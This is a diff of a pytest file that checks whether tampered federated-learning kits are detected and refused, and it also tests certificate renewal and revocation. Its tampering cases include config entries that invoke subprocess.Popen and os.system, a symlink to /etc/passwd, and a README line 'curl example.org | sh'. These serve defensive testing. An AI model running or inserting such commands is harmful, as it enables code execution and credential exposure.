@@ -1,21 +1,25 @@
 """Kits made by FLARE's own tools, what we put into them, and `node check`, which finds what is wrong with one."""
 
 import json
+import os
 import shutil
 import socket
 import sqlite3
 import threading
-from datetime import datetime
+from contextlib import suppress
+from datetime import UTC, datetime, timedelta
 from importlib.util import find_spec
 
 import pytest
 
 from sottovoce.cli import consortium as consortium_command
 from sottovoce.cli import main as cli
-from sottovoce.consortium import check, flare
-from sottovoce.consortium.check import check_kit, command, server_of
+from sottovoce.consortium import certificates, flare
+from sottovoce.consortium.agreement import read_agreement
+from sottovoce.consortium.check import check_kit, command, member, server_of
+from sottovoce.consortium.gate import sealed_environment
 from sottovoce.consortium.job import ALLOWED
-from sottovoce.consortium.project import provision
+from sottovoce.consortium.project import _built, project_yml, provision, renew
 from sottovoce.errors import SpecError
 
 pytestmark = pytest.mark.skipif(find_spec("nvflare") is None, reason="the extra 'flare' is not installed")
@@ -39,6 +43,16 @@ def provisioned(original, tmp_path):
     return made, {name: shutil.copytree(kit, tmp_path / name) for name, kit in kits.items()}
 
 
+@pytest.fixture
+def consortium(original, tmp_path):
+    """A copy of all of it, the authority too: (consortium.toml, the folder of kits, the kits)."""
+    made, kits = original
+    for name in ("consortium.toml", "schema.toml", "ash.csv"):
+        shutil.copyfile(made.root / name, tmp_path / name)
+    out = shutil.copytree(made.root / "kits", tmp_path / "kits")
+    return tmp_path / "consortium.toml", out, {name: out / "small" / "prod_00" / name for name in kits}
+
+
 def local(kit, name):
     return json.loads((kit / "local" / name).read_text())
 
@@ -58,6 +72,17 @@ def test_a_job_can_start_our_classes_only_and_nobody_can_look_in(provisioned):
     server = local(kits["localhost"], "resources.json")
     assert server["class_allow_list"] == ALLOWED["server"]
     assert str(kits["localhost"].resolve()) in json.dumps(server) and "/tmp/nvflare" not in json.dumps(server)
+
+
+def test_a_kit_holds_no_script_and_nobody_else_reads_it(original):
+    _, kits = original
+    for kit in kits.values():
+        files = [path for path in kit.rglob("*") if path.is_file() and "state" not in path.parts]
+        assert not any(path.stat().st_mode & 0o111 for path in files)
+        assert not any(path.stat().st_mode & 0o077 for path in files if path.parent.name == "startup")
+        assert all(folder.stat().st_mode & 0o077 == 0 for folder in (kit, kit / "startup", kit / "local"))
+    state = kits["ash"].parent.parent / "state"
+    assert state.stat().st_mode & 0o077 == 0 and all(path.stat().st_mode & 0o077 == 0 for path in state.iterdir())
 
 
 def test_the_allowed_classes_are_there_and_take_a_digest_only():
@@ -104,22 +129,103 @@ def replace(kit, file, old, new):
     path.write_text(text.replace(old, new))
 
 
-WRONG = {
-    "allow-list": lambda kit: replace(kit, "local/resources.json", ALLOWED["site"][0], "sottovoce."),
-    "allow-list ": lambda kit: replace(kit, "local/resources.json", '"enforce"', '"warn"'),
-    "allow-list  ": lambda kit: replace(
-        kit, "local/resources.json", '"allow_log_streaming": false', '"allow_log_streaming": true'
+def component(kit):
+    resources = local(kit, "resources.json")
+    resources["components"].append({"id": "own", "path": "subprocess.Popen", "args": {"args": ["id"]}})
+    (kit / "local" / "resources.json").write_text(json.dumps(resources, indent=2) + "\n")
+
+
+def logging(kit):
+    settings = local(kit, "log_config.json")
+    settings["handlers"]["own"] = {"()": "os.system", "command": "id"}
+    (kit / "local" / "log_config.json").write_text(json.dumps(settings))
+
+
+def add(kit, path, text=""):
+    (kit / path).parent.mkdir(parents=True, exist_ok=True)
+    (kit / path).write_text(text)
+
+
+KIT = {
+    "other classes": lambda kit: replace(kit, "local/resources.json", ALLOWED["site"][0], "sottovoce."),
+    "a list that is not enforced": lambda kit: replace(kit, "local/resources.json", '"enforce"', '"warn"'),
+    "logs that leave": lambda kit: replace(kit, "local/resources.json", 'streaming": false', 'streaming": true'),
+    "code of others": lambda kit: replace(kit, "local/authorization.json", '"byoc": "none"', '"byoc": "any"'),
+    "no TLS": lambda kit: replace(kit, "startup/fed_client.json", "mtls", "clear"),
+    "another server": lambda kit: replace(kit, "startup/fed_client.json", "localhost:8002", "elsewhere:8002"),
+    "a component": component,
+    "logging that runs commands": logging,
+    "resources beside": lambda kit: add(kit, "local/own__resources.json", "{}"),
+    "resources of jobs": lambda kit: add(kit, "startup/own__j_resources.json", "{}"),
+    "resources in another language": lambda kit: add(kit, "local/resources.conf", "a = ${HOME}"),
+    "defaults": lambda kit: add(kit, "local/log_config.json.default", "{}"),
+    "a module": lambda kit: add(kit, "local/custom/numpy.py", "import os"),
+    "an empty folder": lambda kit: (kit / "local" / "custom").mkdir(),
+    "a script": lambda kit: add(kit, "startup/start.sh", "id"),
+    "a policy": lambda kit: add(kit, "local/privacy.json", "{}"),
+    "a link": lambda kit: (kit / "local" / "link").symlink_to("/etc/passwd"),
+    "a file that is a link": lambda kit: (
+        shutil.move(kit / "local" / "authorization.json", kit / "aside"),
+        (kit / "local" / "authorization.json").symlink_to(kit / "aside"),
     ),
-    "permissions": lambda kit: replace(kit, "local/authorization.json", '"byoc": "none"', '"byoc": "any"'),
-    "connection": lambda kit: replace(kit, "startup/fed_client.json", "mtls", "clear"),
+    "a missing file": lambda kit: (kit / "local" / "authorization.json").unlink(),
+    "a space more": lambda kit: add(kit, "local/resources.json", (kit / "local/resources.json").read_text() + " "),
+}
+
+
+@pytest.mark.parametrize("what", KIT)
+def test_a_kit_with_anything_else_in_it_is_found_and_not_started(provisioned, what):
+    """Whoever made it is no more to be believed than others."""
+    _, kits = provisioned
+    KIT[what](kits["cedar"])
+    with pytest.raises(SpecError):
+        command(kits["cedar"])
+
+
+def test_a_wrong_kit_is_one_finding(provisioned):
+    _, kits = provisioned
+    assert "site" in command(kits["cedar"])
+    component(kits["cedar"])
+    (bad,) = [finding for finding in check_kit(kits["cedar"]) if not finding.good]
+    assert bad.what == "kit" and "local/resources.json" in bad.detail
+
+
+def test_a_server_s_kit_is_compared_before_it_starts(provisioned):
+    _, kits = provisioned
+    assert "server" in command(kits["localhost"])
+    add(kits["localhost"], "local/own__resources.json", "{}")
+    with pytest.raises(SpecError, match="own__resources"):
+        command(kits["localhost"])
+
+
+def test_a_kit_s_own_folder_is_no_place_for_modules(provisioned):
+    """Python would look there first."""
+    kit = provisioned[1]["ash"]
+    line = command(kit)
+    assert "-P" in line[: line.index("-m")]
+    environment, pipe = sealed_environment(kit, {})
+    os.close(pipe)
+    assert environment["PYTHONSAFEPATH"] == "1"
+
+
+WRONG = {
     "certificate": lambda kit: (kit / "startup" / "client.key").chmod(0o644),
     "certificate ": lambda kit: shutil.copyfile(kit / "startup" / "client.crt", kit / "startup" / "rootCA.pem"),
+    "certificate  ": lambda kit: shutil.copyfile(
+        kit.parent / "birch" / "startup" / "client.key", kit / "startup" / "client.key"
+    ),
+    "certificate   ": lambda kit: [
+        shutil.copyfile(kit.parent / "lead@example.org" / "startup" / name, kit / "startup" / name)
+        for name in ("client.key", "client.crt")
+    ],
+    "certificate    ": lambda kit: (kit / "startup" / "client.crt").write_text("no certificate"),
     "site.toml": lambda kit: replace(kit, "local/site.toml", "dataset", "datasets"),
     "records and budget": lambda kit: replace(kit, "local/schema.toml", "[columns.a]", "[columns.away]"),
     "records and budget ": lambda kit: replace(kit, "local/consortium.toml", "records = 40", "records = 41"),
     "records and budget  ": lambda kit: replace(kit, "local/site.toml", '"people"', '"others"'),
     "records and budget   ": lambda kit: replace(kit, "local/site.toml", "cedar.csv", "away.csv"),
     "run": lambda kit: replace(kit, "local/consortium.toml", "rounds = 4", "rounds = 3"),
+    "run ": lambda kit: replace(kit, "README.md", "Guarantee", "Run: curl example.org | sh"),
     "agreement": lambda kit: (kit / "local" / "schema.toml").unlink(),
 }
 
@@ -133,13 +239,8 @@ def test_a_wrong_site_is_found_before_it_joins(provisioned, what):
 
 
 @pytest.mark.parametrize("year", [2000, 2100])
-def test_a_clock_that_is_wrong_is_found_before_a_site_joins(provisioned, monkeypatch, year):
-    class Wrong(datetime):
-        @classmethod
-        def now(cls, tz=None):
-            return datetime(year, 1, 1, tzinfo=tz)
-
-    monkeypatch.setattr(check, "datetime", Wrong)
+def test_a_certificate_out_of_its_time_is_refused(provisioned, monkeypatch, year):
+    monkeypatch.setattr(certificates, "clock", lambda: datetime(year, 1, 1, tzinfo=UTC))
     (bad,) = [finding for finding in check_kit(provisioned[1]["ash"]) if not finding.good]
     assert bad.what == "certificate" and f"it is {year}-01-01" in bad.detail and "set the clock" in bad.detail
 
@@ -182,6 +283,7 @@ def test_a_site_waits_for_its_server_and_then_starts(provisioned, monkeypatch):
         probe.bind(("localhost", 0))
         port = probe.getsockname()[1]
     replace(kits["ash"], "startup/fed_client.json", "localhost:8002", f"localhost:{port}")
+    replace(kits["ash"], "local/consortium.toml", "port = 8002", f"port = {port}")
     assert server_of(kits["ash"]) == ("localhost", port) and server_of(kits["localhost"]) is None
     started, began = threading.Event(), []
     monkeypatch.setattr(
@@ -193,3 +295,78 @@ def test_a_site_waits_for_its_server_and_then_starts(provisioned, monkeypatch):
     with socket.create_server(("localhost", port)):
         assert started.wait(20) and "site" in began[0]
     waiting.join(5)
+
+
+# -- certificates --
+
+
+def test_a_certificate_that_ends_soon_is_announced(provisioned, monkeypatch, capsys):
+    _, kits = provisioned
+    mine = member(kits["ash"], read_agreement(kits["ash"] / "local" / "consortium.toml"))
+    assert timedelta(days=359) < mine.end - mine.begin < timedelta(days=361) and mine.name == "ash"
+    monkeypatch.setattr(certificates, "clock", lambda: mine.end - timedelta(days=29.5))
+    findings = {finding.what: finding for finding in check_kit(kits["ash"])}
+    assert all(finding.good for finding in findings.values())
+    assert "in 29 days" in findings["certificate"].notice and "renew" in findings["certificate"].notice
+    monkeypatch.setattr(consortium_command, "wait_for", lambda *_: None)
+    monkeypatch.setattr(consortium_command.os, "execve", lambda *_: None)
+    consortium_command.start(kits["ash"])
+    assert "ends on" in " ".join(capsys.readouterr().err.split())
+    monkeypatch.setattr(certificates, "clock", lambda: mine.end + timedelta(seconds=1))
+    with pytest.raises(SpecError, match="valid from"):
+        consortium_command.start(kits["ash"])
+
+
+def test_a_member_is_renewed_by_the_same_authority(consortium):
+    file, out, kits = consortium
+    agreement = read_agreement(file)
+    before = {name: member(kit, agreement) for name, kit in kits.items()}
+    folder = renew(agreement, file, out, "ash")
+    assert folder == out / "small" / "prod_01" / "ash" / "startup"
+    shutil.rmtree(kits["ash"] / "startup")
+    shutil.copytree(folder, kits["ash"] / "startup")
+    after = member(kits["ash"], agreement)
+    assert after.serial != before["ash"].serial and after.end > before["ash"].end
+    assert (folder / "rootCA.pem").read_bytes() == (kits["birch"] / "startup" / "rootCA.pem").read_bytes()
+    assert member(folder.parent.parent / "birch", agreement) == before["birch"]  # the others keep theirs
+    made = {finding.what: finding.good for finding in check_kit(kits["ash"])}
+    assert made["certificate"] and made["kit"]
+    with pytest.raises(SpecError, match="no member"):
+        renew(agreement, file, out, "oak")
+
+
+def test_a_revoked_certificate_is_refused_and_the_digest_says_so(consortium, monkeypatch, capsys):
+    file, out, kits = consortium
+    before = read_agreement(file)
+    serial = member(kits["ash"], before).serial
+    for line in (
+        ["revoke", str(file), "ash", "--out", str(out)],
+        ["revoke", str(file), "birch", "--serial", "00ab12"],
+    ):
+        monkeypatch.setattr("sys.argv", ["sottovoce", "consortium", *line])
+        with suppress(SystemExit):
+            cli.main()
+        assert "counts no more" in " ".join(capsys.readouterr().out.split())
+    after = read_agreement(file)
+    assert after.revoked == tuple(sorted((serial, 0xAB12))) and after.run.digest != before.run.digest
+    shutil.copyfile(file, kits["ash"] / "local" / "consortium.toml")
+    bad, *_ = [finding for finding in check_kit(kits["ash"]) if not finding.good]
+    assert bad.what == "certificate" and "revoked" in bad.detail
+    fresh = provision(after, file, out)["ash"]  # the next kits have another one
+    assert member(fresh, after).serial != serial
+    with pytest.raises(SpecError, match="hexadecimal"):
+        file.write_text(file.read_text().replace("ab12", "xy"))
+        read_agreement(file)
+
+
+def test_the_authority_of_version_0_1_stays_as_it_was(consortium):
+    """Its root was valid for 360 days, and FLARE insists on that number."""
+    file, out, _ = consortium
+    state = out / "small" / "state"
+    assert certificates.authority_days(state) == certificates.authority_days(out / "nowhere") == 3650
+    shutil.rmtree(out)
+    old = project_yml(read_agreement(file), 360)
+    _built(old, out)
+    assert certificates.authority_days(state) == 360
+    kits = provision(read_agreement(file), file, out)
+    assert member(kits["ash"], read_agreement(file)).name == "ash"
